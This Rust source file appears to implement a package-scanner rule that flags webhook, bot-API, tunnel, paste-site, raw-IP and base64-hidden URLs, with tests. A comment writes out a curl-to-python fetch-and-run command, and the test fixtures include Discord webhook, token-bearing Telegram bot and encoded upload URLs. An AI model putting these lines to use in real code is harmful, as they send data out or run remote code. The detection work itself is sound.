use super::vocab::{self, Endpoint};
use crate::declare_rule;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Finds URLs and hosts that libraries have no business contacting:
    /// messenger webhooks and bot APIs (Discord, Telegram, Slack), request
    /// capture and out-of-band interaction services (webhook.site,
    /// pipedream, interactsh, Burp Collaborator, dnslog), tunnels (ngrok),
    /// paste and file-drop sites, public-IP lookups, and raw public IP addresses.
    ///
    /// ## Why is this bad?
    /// These are where stolen data is sent and where second stages are
    /// fetched from. Alone it is a hint; with data collection or execution it
    /// is the decisive half of an exfiltration or dropper.
    ///
    /// ## Example
    /// ```python
    /// HOOK = "https://discord.com/api/webhooks/1234/abcd"      # Error
    /// URL = "http://203.0.113.9:8080/p"                         # Error (raw public IP)
    /// DOCS = "https://docs.python.org/3/"                       # No error
    /// ```
    ///
    /// ## False positives
    /// Libraries for these very services (a Discord webhook client) carry
    /// their URLs: reported as `medium` in library code and `low` in tests.
    SuspiciousEndpoint, id = "suspicious-endpoint", severity = High,
    summary = "webhook, request-capture, tunnel, paste-site or raw-IP endpoint in code"
}

impl Rule for SuspiciousEndpoint {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let mut seen = Vec::new();
            for lit in &unit.code.strings {
                let Some(kind) = vocab::endpoint_kind(&lit.value) else {
                    continue;
                };
                if seen.contains(&kind) {
                    continue;
                }
                seen.push(kind);
                let install = lit.stage == Stage::Install;
                // A webhook or bot URL with its secret embedded means data goes to the author.
                let armed = (kind == Endpoint::Webhook && !lit.value.contains('{') && embeds_token(&lit.value))
                    // `curl -s https://pastebin.com/raw/x | python3`: a fetch-and-run command line.
                    || (kind != Endpoint::IpLookup && vocab::is_strong_command(&lit.value));
                let severity = match (kind.is_strong(), lit.stage) {
                    (_, Stage::Auxiliary) => Severity::Low,
                    (true, _) if install || unit.is_payload() || armed => Severity::High,
                    (false, _) if armed => Severity::High,
                    (true, _) => Severity::Medium,
                    (false, _) if install && kind != Endpoint::IpLookup => Severity::Medium,
                    (false, _) => Severity::Low,
                };
                let value: String = lit.value.chars().take(100).collect();
                let message = format!("contains {} (`{value}`)", kind.describe());
                out.push(unit.finding(Self::META.id, severity, lit.line, message));
            }
            // A URL kept in base64 (`aHR0cHM6Ly9…`) so that it does not show.
            if let Some((lit, url)) = unit
                .code
                .strings
                .iter()
                .find_map(|l| hidden_url(&l.value).map(|u| (l, u)))
            {
                let host = vocab::untrusted_host(&url);
                let severity = match (lit.stage, host) {
                    (Stage::Auxiliary, _) => Severity::Low,
                    (_, Some(_)) => Severity::High,
                    _ => Severity::Medium,
                };
                let shown: String = url.chars().take(100).collect();
                let at = host.map(|h| format!(", {h}")).unwrap_or_default();
                let message = format!("hides the URL `{shown}`{at} in base64");
                out.push(unit.finding(Self::META.id, severity, lit.line, message));
            }
        }
    }
}

/// The URL a base64 literal decodes to, when it is one.
fn hidden_url(s: &str) -> Option<String> {
    // "http" in base64 always starts "aHR0c".
    if !s.starts_with("aHR0c") || s.len() < 16 || s.len() > 4096 {
        return None;
    }
    let bytes = crate::inspect::python::decode::base64(s.trim().as_bytes())?;
    let text = String::from_utf8(bytes).ok()?;
    (text.starts_with("http://") || text.starts_with("https://")).then_some(text)
}

/// `…/api/webhooks/<id>/<token>` or `…/bot<id>:<token>/…`.
fn embeds_token(url: &str) -> bool {
    let tail = |marker: &str| url.split_once(marker).map(|(_, t)| t.to_string());
    if let Some(t) = tail("/webhooks/") {
        let mut parts = t.split('/');
        return parts
            .next()
            .is_some_and(|id| id.len() >= 8 && id.bytes().all(|b| b.is_ascii_digit()))
            && parts.next().is_some_and(|tok| tok.len() >= 20);
    }
    if let Some(t) = tail("/bot") {
        return t.split_once(':').is_some_and(|(id, tok)| {
            id.len() >= 6
                && id.bytes().all(|b| b.is_ascii_digit())
                && tok.split('/').next().is_some_and(|k| k.len() >= 30)
        });
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::{check, setup_py};

    #[test]
    fn fires_on() {
        let f = setup_py(&SuspiciousEndpoint, "H = 'https://discord.com/api/webhooks/1/abc'\n");
        assert_eq!((f.len(), f[0].severity), (1, Severity::High));
        // A base64-hidden URL on a free hosting platform, as a default argument.
        let f = check(
            &SuspiciousEndpoint,
            Kind::Wheel,
            &[(
                "pkg/x.py",
                "def up(a='aHR0cDovL3guaGVyb2t1YXBwLmNvbS91cA=='):\n    pass\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        assert!(f[0].message.contains("http://x.herokuapp.com/up"), "{}", f[0].message);
        let f = setup_py(&SuspiciousEndpoint, "u = 'http://' + '203.0.113.9' + ':8080/x'\n");
        assert!(f.iter().any(|f| f.message.contains("raw public IP")), "{f:?}");
        let f = check(&SuspiciousEndpoint, Kind::Wheel, &[("pkg/x.py", "def f():\n    u = 'https://api.telegram.org/bot6173184451:AAHJuPVZFFHSurKXCxqa_h3kjxqd7IRcUJU/sendMessage'\n")]);
        assert_eq!(f[0].severity, Severity::High, "an armed bot URL: {f:?}");
        let f = check(
            &SuspiciousEndpoint,
            Kind::Wheel,
            &[(
                "pkg/x.py",
                "def f():\n    u = 'https://api.telegram.org/bot{}/sendMessage'\n",
            )],
        );
        assert_eq!(f[0].severity, Severity::Medium, "a template: {f:?}");
        let f = setup_py(&SuspiciousEndpoint, "u = 'https://abc.oast.fun'\n");
        assert_eq!(f.len(), 1);
    }

    #[test]
    fn quiet_on() {
        assert!(setup_py(
            &SuspiciousEndpoint,
            "u = 'https://docs.python.org/3/'\nv = 'http://127.0.0.1:8000'\nw = 'http://10.0.0.1/'\n"
        )
        .is_empty());
        let f = check(
            &SuspiciousEndpoint,
            Kind::Sdist,
            &[(
                "pkg-1.0/tests/test_hook.py",
                "H = 'https://discord.com/api/webhooks/1/abc'\n",
            )],
        );
        assert!(f.iter().all(|f| f.severity == Severity::Low));
    }
}
